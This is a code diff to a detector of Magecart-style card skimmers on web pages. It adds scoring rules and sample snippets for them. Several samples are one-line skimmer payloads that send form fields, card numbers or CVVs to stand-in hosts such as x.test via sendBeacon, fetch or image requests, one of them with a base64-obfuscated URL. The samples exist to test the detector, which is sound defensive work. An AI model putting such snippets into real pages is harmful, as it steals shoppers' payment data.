@@ -8,8 +8,10 @@ import {
   allOf,
   anyOf,
   calls,
+  elsewhere,
   flow,
   forgetsTo,
+  onlyPasswordsMasked,
   paths,
   properties,
   sends,
@@ -111,6 +113,11 @@ function listedSkimmer({ texts }: Facts): number[] {
   return has(listedReaders) && has(listedSenders) ? card.map(({ node }) => node) : [];
 }
 
+/** Markup with card fields that the script puts into the page. */
+const madeCardForm: Finder = text(
+  ({ text: it }) => /<(?:input|form|iframe)/i.test(it) && mentionsCardField(it),
+);
+
 export const magecartFeatures: readonly Feature[] = [
   {
     id: 'card-data-sent',
@@ -126,7 +133,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'card-data-sent-elsewhere',
     what: 'Card data goes to another host, or to one that is not known',
     points: 25,
-    find: sendsTo(['unknown', 'foreign'], taint.cardName, anyField),
+    find: sendsTo(elsewhere, taint.cardName, anyField),
     samples: {
       matching: [
         `fetch('//c.test/pay', { body: document.querySelector('#cvv').value }).then(done);`,
@@ -179,11 +186,13 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'all-fields-sent-elsewhere',
     what: 'Sends all fields to another host without waiting for an answer, and leaves none out',
     points: 65,
-    find: unmasked('any', forgetsTo(['foreign'], taint.allFields, taint.field)),
+    find: unmasked('any', forgetsTo(['foreign', 'hidden'], taint.allFields, taint.field)),
     samples: {
       matching: [
         `f.onsubmit = function () { navigator.sendBeacon('https://x.test/c', new FormData(document.forms[0])); };`,
         `document.addEventListener('change', ({ target: { value } }) => { new Image().src = 'https://x.test/' + value; });`,
+        `var u = decode(atob(code)); document.onsubmit = (e) => { fetch(atob(u), { body: new FormData(e.target) }); };`,
+        `class A { #v = {}; constructor() { document.addEventListener('change', (e) => this.#take(e)); } #take(e) { this.#v[e.target.name] = e.target.value; navigator.sendBeacon('//x.test', JSON.stringify(this.#v)); } }`,
         `var u = ['https:', '', 'x.test', id].join('/'); document.onsubmit = (e) => { fetch(u, { body: new FormData(e.target) }); };`,
       ],
       other: [
@@ -203,13 +212,34 @@ export const magecartFeatures: readonly Feature[] = [
     },
   },
   {
+    id: 'payment-fields-sent-elsewhere',
+    what: 'Sends all fields of payment pages to another host, and leaves out passwords only',
+    points: 40,
+    find: allOf(
+      onlyPasswordsMasked(forgetsTo(['foreign', 'hidden'], taint.allFields, taint.field)),
+      anyOf(checkoutChecks, paymentSelectors),
+    ),
+    samples: {
+      matching: [
+        `if (/checkout/.test(location.href)) document.addEventListener('change', ({ target: t }) => { if (t.type !== 'password') new Image().src = 'https://x.test/' + t.value; });`,
+      ],
+      other: [
+        `document.addEventListener('change', ({ target: t }) => { if (t.type !== 'password') new Image().src = 'https://x.test/' + t.value; });`,
+        `if (/checkout/.test(location.href)) document.addEventListener('change', ({ target: t }) => { if (t.type !== 'password' && !/card|cvv/.test(t.name)) new Image().src = 'https://x.test/' + t.value; });`,
+      ],
+    },
+  },
+  {
     id: 'submission-copied',
     what: 'Sends all fields to another host while the form goes its own way',
     points: 92,
     find: unmasked('any', (facts) =>
       facts.methods.has('preventDefault') || facts.properties.has('preventDefault')
         ? []
-        : allOf(sendsTo(['foreign'], taint.allFields, taint.field), submitListeners)(facts),
+        : allOf(
+            sendsTo(['foreign', 'hidden'], taint.allFields, taint.field),
+            submitListeners,
+          )(facts),
     ),
     samples: {
       matching: [
@@ -311,10 +341,24 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'card-form-made',
     what: 'Puts a form with card fields into the page',
     points: 35,
-    find: text(({ text: it }) => /<(?:input|form|iframe)/i.test(it) && mentionsCardField(it)),
+    find: madeCardForm,
     samples: {
       matching: [`el.innerHTML = '<form><input name="cc-number"><input name="cvv"></form>';`],
       other: [`el.innerHTML = '<form><input name="street"></form>';`],
+    },
+  },
+  {
+    id: 'made-form-sent',
+    what: 'Puts a form with card fields into the page, and sends fields elsewhere without waiting for an answer',
+    points: 45,
+    find: allOf(madeCardForm, forgetsTo(elsewhere, taint.field)),
+    samples: {
+      matching: [
+        `el.innerHTML = '<input id="a" autocomplete="cc-number">'; go.onclick = () => { navigator.sendBeacon('//x.test', document.querySelector('#a').value); };`,
+      ],
+      other: [
+        `el.innerHTML = '<input id="a" autocomplete="cc-number">'; go.onclick = () => { fetch('//x.test', { body: document.querySelector('#a').value }).then((r) => r.json()).then(pay); };`,
+      ],
     },
   },
   {
@@ -347,7 +391,7 @@ export const magecartFeatures: readonly Feature[] = [
     what: 'Hides the payment form of the page and puts its own in its place',
     points: 40,
     find: allOf(
-      text(({ text: it }) => /<(?:input|form|iframe)/i.test(it) && mentionsCardField(it)),
+      madeCardForm,
       text(({ text: it }) => it === 'none' || /display:\s*none/.test(it)),
       anyOf(
         paths('?.style.display', '<node>.style.display'),
